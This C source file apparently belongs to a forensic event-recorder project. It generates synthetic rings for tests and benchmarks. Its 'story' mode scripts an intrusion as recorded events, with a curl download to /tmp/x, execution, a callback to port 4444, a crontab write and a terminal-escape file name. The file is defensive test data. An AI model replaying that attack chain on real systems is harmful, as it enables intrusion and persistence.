/* SPDX-License-Identifier: Apache-2.0 */
/*
 * fdr-ringgen: writes rings with the formats writer for replay's tests,
 * bench and (until samples/ holds real recordings) the demo. It is a test
 * tool, not a recorder: what it writes is synthetic and says so in the
 * ring metadata (runtime "synthetic").
 *
 *   fdr-ringgen mix DIR EVENTS RINGS HOSTS [SLOT_SIZE FILE_SIZE]
 *       EVENTS of tests/formats/gen.h's mix, event i into ring i % RINGS;
 *       ring r belongs to host r % HOSTS; the first ring of each host is
 *       its host ring. Equal pids on different hosts on purpose.
 *   fdr-ringgen hostmix DIR EVENTS RINGS HOSTS [SLOT_SIZE FILE_SIZE]
 *       the same with gen_host_event()'s host-like mix (bench).
 *   fdr-ringgen story DIR [SLOT_SIZE FILE_SIZE]
 *       a small intrusion: ssh login (wrong then right password), sudo,
 *       docker exec into a web container, download, run, outbound
 *       connection to an unusual port, write under /etc; a rec.gap.
 *   fdr-ringgen lz4 RING...
 *       bench peer: read and LZ4-decompress every valid block of the rings
 *       on one core, nothing else (no checksum, no decoding); prints
 *       "events blocks raw_bytes seconds".
 */
#include <errno.h>
#include <fcntl.h>
#include <lz4.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "fdr-ring.h"
#include "tests/formats/gen.h"

static int die(const char *what, const char *path, int err)
{
	fprintf(stderr, "fdr-ringgen: %s '%s': %s\n", what, path, fdr_strerror(err));
	exit(1);
}

static struct fdr_ring_writer *open_ring(const char *dir, const char *file, const struct fdr_ring_meta *m,
					 uint32_t slot, uint64_t size)
{
	struct fdr_writer_opts o = FDR_WRITER_OPTS_INIT;
	struct fdr_ring_writer *w;
	char path[4096];
	int err;

	o.slot_size = slot;
	o.file_size = size;
	o.sync = FDR_SYNC_NONE;
	snprintf(path, sizeof(path), "%s/%s", dir, file);
	err = fdr_writer_open(path, m, &o, &w);
	if (err < 0)
		die("cannot create ring", path, err);
	return w;
}

static void add(struct fdr_ring_writer *w, const struct fdr_event *ev)
{
	int err = fdr_writer_append(w, ev);

	if (err < 0)
		die("cannot append to", fdr_writer_meta(w)->container_name, err);
}

static int cmd_mix(int argc, char **argv)
{
	bool host_mix = !strcmp(argv[1], "hostmix");

	if (argc < 6)
		return 2;
	const char *dir = argv[2];
	uint64_t n = strtoull(argv[3], NULL, 10);
	unsigned nr = (unsigned)atoi(argv[4]), nh = (unsigned)atoi(argv[5]);
	uint32_t slot = argc > 6 ? (uint32_t)strtoul(argv[6], NULL, 10) : 64u << 10;
	uint64_t size = argc > 7 ? strtoull(argv[7], NULL, 10) : 64ull << 20;
	struct fdr_ring_writer **w = calloc(nr, sizeof(*w));
	struct fdr_event *ev = malloc(sizeof(*ev));
	struct gen_buf g;

	if (!w || !ev || !nr || !nh)
		return 2;
	mkdir(dir, 0700);
	for (unsigned r = 0; r < nr; r++) {
		struct fdr_ring_meta m;
		char file[64];
		unsigned h = r % nh;

		memset(&m, 0, sizeof(m));
		snprintf(m.hostname, sizeof(m.hostname), "host%u", h);
		snprintf(m.machine_id, sizeof(m.machine_id), "%032x", h + 1);
		snprintf(m.boot_id, sizeof(m.boot_id), "b%031x", h + 1);
		snprintf(m.runtime, sizeof(m.runtime), "synthetic");
		if (r < nh) {
			snprintf(file, sizeof(file), "h%u-host.ring", h);
		} else {
			snprintf(m.container_id, sizeof(m.container_id), "%064x", r);
			snprintf(m.container_name, sizeof(m.container_name), "app%u", r);
			snprintf(m.image, sizeof(m.image), r % 2 ? "nginx:1.25" : "redis:7");
			if (r % 4 == 3) {	/* a Kubernetes pod's container */
				snprintf(m.pod, sizeof(m.pod), "app-%u", r);
				snprintf(m.namespace_, sizeof(m.namespace_), "shop");
				snprintf(m.pod_uid, sizeof(m.pod_uid), "%08x-0000-4000-8000-%012x", r, r);
			}
			snprintf(file, sizeof(file), "h%u-c%u.ring", h, r);
		}
		w[r] = open_ring(dir, file, &m, slot, size);
	}
	for (uint64_t i = 0; i < n; i++) {
		if (host_mix)
			gen_host_event(i, ev, &g);
		else
			gen_event(i, ev, &g);
		add(w[i % nr], ev);
	}
	for (unsigned r = 0; r < nr; r++)
		fdr_writer_close(w[r]);
	free(w);
	free(ev);
	return 0;
}

/* ---- story ----------------------------------------------------------------- */

#define T0 1714557600000000000ull	/* 2024-05-01T10:00:00Z */
#define S 1000000000ull
#define WEB_ID "3f2a9c1e5b7d4f60a8e2c4b6d8f0a1c3e5b7d9f1a3c5e7b9d1f3a5c7e9b1d3f5"

static struct fdr_event E;
static struct fdr_str V[8];

static struct fdr_event *ev0(unsigned kind, uint64_t t, uint64_t pid)
{
	fdr_event_init(&E, kind, t);
	if (pid)
		fdr_event_set_u(&E, FDR_F_PID, pid);
	return &E;
}

static void argv_set(const char *a0, const char *a1, const char *a2, const char *a3)
{
	const char *a[4] = { a0, a1, a2, a3 };
	unsigned n = 0;

	for (; n < 4 && a[n]; n++)
		V[n] = fdr_str_c(a[n]);
	fdr_event_set_strv(&E, FDR_F_ARGV, V, n);
}

static void proc(struct fdr_ring_writer *w, uint64_t t, uint64_t pid, uint64_t ppid, const char *exe,
		 uint64_t uid, uint64_t sess, const char *a0, const char *a1, const char *a2, const char *a3)
{
	ev0(FDR_PROC_FORK, t, pid);
	fdr_event_set_u(&E, FDR_F_PPID, ppid);
	add(w, &E);
	ev0(FDR_PROC_EXEC, t + 1000000, pid);
	fdr_event_set_u(&E, FDR_F_PPID, ppid);
	fdr_event_set_cstr(&E, FDR_F_EXE, exe);
	fdr_event_set_cstr(&E, FDR_F_COMM, strrchr(exe, '/') + 1);
	argv_set(a0, a1, a2, a3);
	fdr_event_set_cstr(&E, FDR_F_CWD, uid ? "/home/admin" : "/root");
	fdr_event_set_u(&E, FDR_F_UID, uid);
	fdr_event_set_u(&E, FDR_F_GID, uid);
	fdr_event_set_u(&E, FDR_F_EUID, uid);
	if (sess) {
		fdr_event_set_u(&E, FDR_F_LOGINUID, 1000);
		fdr_event_set_u(&E, FDR_F_SESSIONID, sess);
		fdr_event_set_cstr(&E, FDR_F_TTY, "pts/0");
	}
	add(w, &E);
}

static void exit_(struct fdr_ring_writer *w, uint64_t t, uint64_t pid, const char *comm, int64_t code)
{
	ev0(FDR_PROC_EXIT, t, pid);
	fdr_event_set_cstr(&E, FDR_F_COMM, comm);
	fdr_event_set_i(&E, FDR_F_EXIT_CODE, code);
	add(w, &E);
}

static void net(struct fdr_ring_writer *w, unsigned kind, uint64_t t, uint64_t pid, const char *src,
		uint64_t sport, const char *dst, uint64_t dport)
{
	struct fdr_addr a;

	ev0(kind, t, pid);
	fdr_event_set_cstr(&E, FDR_F_PROTO, "tcp");
	fdr_addr_parse(&a, src);
	fdr_event_set_addr(&E, FDR_F_SRC, &a);
	fdr_event_set_u(&E, FDR_F_SPORT, sport);
	fdr_addr_parse(&a, dst);
	fdr_event_set_addr(&E, FDR_F_DST, &a);
	fdr_event_set_u(&E, FDR_F_DPORT, dport);
	add(w, &E);
}

static void file(struct fdr_ring_writer *w, unsigned kind, uint64_t t, uint64_t pid, const char *comm,
		 const char *path)
{
	ev0(kind, t, pid);
	fdr_event_set_cstr(&E, FDR_F_COMM, comm);
	fdr_event_set_cstr(&E, FDR_F_PATH, path);
	add(w, &E);
}

static int cmd_story(int argc, char **argv)
{
	struct fdr_ring_meta hm, cm;
	struct fdr_ring_writer *h, *c;

	if (argc < 3)
		return 2;
	mkdir(argv[2], 0700);
	memset(&hm, 0, sizeof(hm));
	snprintf(hm.hostname, sizeof(hm.hostname), "web01");
	snprintf(hm.machine_id, sizeof(hm.machine_id), "5e1f0c0ffee0000000000000000000a1");
	snprintf(hm.boot_id, sizeof(hm.boot_id), "b0b0b0b0000000000000000000000001");
	snprintf(hm.runtime, sizeof(hm.runtime), "synthetic");
	cm = hm;
	snprintf(cm.container_id, sizeof(cm.container_id), WEB_ID);
	snprintf(cm.container_name, sizeof(cm.container_name), "web");
	snprintf(cm.image, sizeof(cm.image), "nginx:1.25");
	snprintf(cm.runtime, sizeof(cm.runtime), "synthetic");
	uint32_t slot = argc > 3 ? (uint32_t)strtoul(argv[3], NULL, 10) : 16384;
	uint64_t size = argc > 4 ? strtoull(argv[4], NULL, 10) : 1u << 20;
	h = open_ring(argv[2], "host.ring", &hm, slot, size);
	c = open_ring(argv[2], "web.ring", &cm, slot, size);

	ev0(FDR_REC_START, T0, 0);
	fdr_event_set_cstr(&E, FDR_F_VERSION, "0.1.0");
	add(h, &E);
	add(c, &E);
	/* Running before the recording: seen by the /proc scan. */
	ev0(FDR_PROC_EXEC, T0 + 1000, 800);
	fdr_event_set_u(&E, FDR_F_PPID, 1);
	fdr_event_set_cstr(&E, FDR_F_EXE, "/usr/sbin/sshd");
	fdr_event_set_cstr(&E, FDR_F_COMM, "sshd");
	argv_set("sshd:", "/usr/sbin/sshd", "-D", NULL);
	E.flags = FDR_EVF_SCAN;
	add(h, &E);
	ev0(FDR_PROC_EXEC, T0 + 2000, 2000);
	fdr_event_set_u(&E, FDR_F_PPID, 1900);
	fdr_event_set_u(&E, FDR_F_VPID, 1);
	fdr_event_set_cstr(&E, FDR_F_EXE, "/usr/sbin/nginx");
	fdr_event_set_cstr(&E, FDR_F_COMM, "nginx");
	argv_set("nginx", "-g", "daemon off;", NULL);
	E.flags = FDR_EVF_SCAN;
	add(c, &E);
	/* Normal period: web requests. */
	for (unsigned i = 0; i < 20; i++) {
		uint64_t t = T0 + (i + 1) * 2 * S;
		net(c, FDR_NET_ACCEPT, t, 2001, "192.0.2.10", 40000 + i, "172.17.0.2", 80);
		file(c, FDR_FILE_MODIFY, t + 1000, 2001, "nginx", "/var/log/nginx/access.log");
	}
	/* The intrusion. */
	uint64_t t = T0 + 60 * S;
	ev0(FDR_SSH_LOGIN, t, 3000);
	fdr_event_set_cstr(&E, FDR_F_USER, "admin");
	fdr_event_set_cstr(&E, FDR_F_ADDR, "203.0.113.7");
	fdr_event_set_u(&E, FDR_F_PORT, 51234);
	fdr_event_set_cstr(&E, FDR_F_METHOD, "password");
	fdr_event_set_cstr(&E, FDR_F_RESULT, "failure");
	add(h, &E);
	t += 5 * S;
	ev0(FDR_SSH_LOGIN, t, 3001);
	fdr_event_set_cstr(&E, FDR_F_USER, "admin");
	fdr_event_set_cstr(&E, FDR_F_ADDR, "203.0.113.7");
	fdr_event_set_u(&E, FDR_F_PORT, 51240);
	fdr_event_set_cstr(&E, FDR_F_METHOD, "password");
	fdr_event_set_cstr(&E, FDR_F_RESULT, "success");
	fdr_event_set_u(&E, FDR_F_LOGINUID, 1000);
	fdr_event_set_u(&E, FDR_F_SESSIONID, 42);
	add(h, &E);
	proc(h, t + S, 3002, 3001, "/bin/bash", 1000, 42, "-bash", NULL, NULL, NULL);
	t += 15 * S;
	proc(h, t, 3010, 3002, "/usr/bin/sudo", 1000, 42, "sudo", "-i", NULL, NULL);
	ev0(FDR_SUDO_CMD, t + 2000000, 3010);
	fdr_event_set_cstr(&E, FDR_F_USER, "admin");
	fdr_event_set_cstr(&E, FDR_F_RUNAS, "root");
	fdr_event_set_cstr(&E, FDR_F_TTY, "pts/0");
	fdr_event_set_cstr(&E, FDR_F_CWD, "/home/admin");
	fdr_event_set_cstr(&E, FDR_F_COMMAND, "/bin/bash");
	fdr_event_set_cstr(&E, FDR_F_RESULT, "allowed");
	fdr_event_set_u(&E, FDR_F_SESSIONID, 42);
	add(h, &E);
	proc(h, t + S, 3011, 3010, "/bin/bash", 0, 42, "-bash", NULL, NULL, NULL);
	t += 20 * S;
	proc(h, t, 3020, 3011, "/usr/bin/docker", 0, 42, "docker", "exec", "-it", "web");
	ev0(FDR_DOCKER, t + S / 2, 0);
	fdr_event_set_cstr(&E, FDR_F_ACTION, "exec_start");
	fdr_event_set_cstr(&E, FDR_F_CONTAINER, WEB_ID);
	fdr_event_set_cstr(&E, FDR_F_NAME, "web");
	fdr_event_set_cstr(&E, FDR_F_IMAGE, "nginx:1.25");
	fdr_event_set_cstr(&E, FDR_F_COMMAND, "sh");
	fdr_event_set_cstr(&E, FDR_F_EXEC_ID, "e7c1d2b3a4f5e6d7c8b9a0f1e2d3c4b5a6f7e8d9c0b1a2f3e4d5c6b7a8f9e0d1");
	add(h, &E);
	/* Inside the container: the shim (host pid 1900) starts sh. */
	proc(c, t + S / 2 + 5000000, 4100, 1900, "/bin/sh", 0, 0, "sh", NULL, NULL, NULL);
	t += 20 * S;
	proc(c, t, 4101, 4100, "/usr/bin/curl", 0, 0, "curl", "-so", "/tmp/x",
	     "http://198.51.100.9:8000/x");
	ev0(FDR_DNS_QUERY, t + 10000000, 4101);
	fdr_event_set_cstr(&E, FDR_F_NAME, "dl.example.net");
	fdr_event_set_cstr(&E, FDR_F_QTYPE, "A");
	add(c, &E);
	net(c, FDR_NET_CONNECT, t + 20000000, 4101, "172.17.0.2", 40312, "198.51.100.9", 8000);
	file(c, FDR_FILE_CREATE, t + 30000000, 4101, "curl", "/tmp/x");
	exit_(c, t + 2 * S, 4101, "curl", 0);
	t += 10 * S;
	ev0(FDR_REC_GAP, t, 0);
	fdr_event_set_cstr(&E, FDR_F_SOURCE, "proc");
	fdr_event_set_u(&E, FDR_F_LOST, 3);
	fdr_event_set_u(&E, FDR_F_FROM, t - S);
	fdr_event_set_u(&E, FDR_F_TO, t);
	add(c, &E);
	proc(c, t + S, 4102, 4100, "/usr/bin/chmod", 0, 0, "chmod", "+x", "/tmp/x", NULL);
	file(c, FDR_FILE_ATTRIB, t + S + 2000000, 4102, "chmod", "/tmp/x");
	exit_(c, t + S + 3000000, 4102, "chmod", 0);
	t += 5 * S;
	proc(c, t, 4103, 4100, "/tmp/x", 0, 0, "/tmp/x", NULL, NULL, NULL);
	net(c, FDR_NET_CONNECT, t + S, 4103, "172.17.0.2", 40400, "198.51.100.9", 4444);
	file(c, FDR_FILE_MODIFY, t + 3 * S, 4103, "x", "/etc/crontab");
	/* A name meant to fool a terminal: escaped on output. */
	file(c, FDR_FILE_CREATE, t + 4 * S, 4103, "x", "/tmp/.\x1b[2Jhidden");
	t += 60 * S;
	exit_(c, t, 4100, "sh", 0);
	exit_(h, t + S, 3020, "docker", 0);
	exit_(h, t + 5 * S, 3011, "bash", 0);
	exit_(h, t + 6 * S, 3010, "sudo", 0);
	exit_(h, t + 8 * S, 3002, "bash", 0);
	ev0(FDR_SSH_LOGOUT, t + 9 * S, 3001);
	fdr_event_set_cstr(&E, FDR_F_USER, "admin");
	fdr_event_set_u(&E, FDR_F_SESSIONID, 42);
	add(h, &E);
	/* 4103 (/tmp/x) is still running when the recording ends. */
	ev0(FDR_REC_STOP, t + 10 * S, 0);
	add(h, &E);
	add(c, &E);
	fdr_writer_close(h);
	fdr_writer_close(c);
	return 0;
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* SPEC.md 4.2 (format 1.1): chained LZ4 chunks, each with the output
 * before it as its dictionary. Returns 0 when exactly raw bytes came out. */
static int lz4_chunks(const char *in, uint32_t len, char *out, uint32_t raw)
{
	uint32_t pos = 0, done = 0;

	while (pos < len) {
		uint32_t clen;
		if (len - pos < 4)
			return -1;
		memcpy(&clen, in + pos, 4);	/* little-endian host */
		pos += 4;
		if (!clen || clen > len - pos)
			return -1;
		size_t dict = done < 65536 ? done : 65536;
		int n = LZ4_decompress_safe_usingDict(in + pos, out + done, (int)clen, (int)(raw - done),
						      out + done - dict, (int)dict);
		if (n <= 0)
			return -1;
		done += (uint32_t)n;
		pos += clen;
	}
	return done == raw ? 0 : -1;
}

static int cmd_lz4(int argc, char **argv)
{
	uint64_t events = 0, blocks = 0, raw = 0;
	double secs = 0;
	char *in = NULL, *out = NULL;

	for (int a = 2; a < argc; a++) {
		struct fdr_ring_reader *r;
		int err = fdr_reader_open(argv[a], &r);
		if (err < 0)
			die("cannot open", argv[a], err);
		const struct fdr_ring_geometry *g = fdr_reader_geometry(r);
		int fd = open(argv[a], O_RDONLY);
		in = realloc(in, g->slot_size);
		out = realloc(out, 64u << 20);
		if (fd < 0 || !in || !out)
			return 1;
		double t0 = now_s();
		for (size_t i = 0; i < fdr_reader_nblocks(r); i++) {
			const struct fdr_block_info *b = fdr_reader_block(r, i);
			off_t off = (off_t)(g->data_offset + (uint64_t)b->slot * g->slot_size);
			if (pread(fd, in, g->slot_size, off) != (ssize_t)g->slot_size)
				return 1;
			uint16_t hs = (uint16_t)((uint8_t)in[4] | (uint8_t)in[5] << 8);
			unsigned comp = (uint8_t)in[6] & 15;
			if (comp == 2 ? lz4_chunks(in + hs, b->comp_size, out, b->raw_size)
				      : LZ4_decompress_safe(in + hs, out, (int)b->comp_size, 64 << 20) !=
						(int)b->raw_size)
				die("lz4 failed in", argv[a], FDR_E_CORRUPT);
			events += b->events;
			raw += b->raw_size;
			blocks++;
		}
		secs += now_s() - t0;
		close(fd);
		fdr_reader_free(r);
	}
	printf("%llu %llu %llu %.6f\n", (unsigned long long)events, (unsigned long long)blocks,
	       (unsigned long long)raw, secs);
	free(in);
	free(out);
	return 0;
}

int main(int argc, char **argv)
{
	int rc = 2;

	if (argc > 1 && (!strcmp(argv[1], "mix") || !strcmp(argv[1], "hostmix")))
		rc = cmd_mix(argc, argv);
	else if (argc > 1 && !strcmp(argv[1], "story"))
		rc = cmd_story(argc, argv);
	else if (argc > 2 && !strcmp(argv[1], "lz4"))
		rc = cmd_lz4(argc, argv);
	if (rc == 2)
		fprintf(stderr, "usage: fdr-ringgen mix|hostmix DIR EVENTS RINGS HOSTS [SLOT FILESIZE] | story DIR [SLOT FILESIZE] | lz4 RING...\n");
	return rc;
}
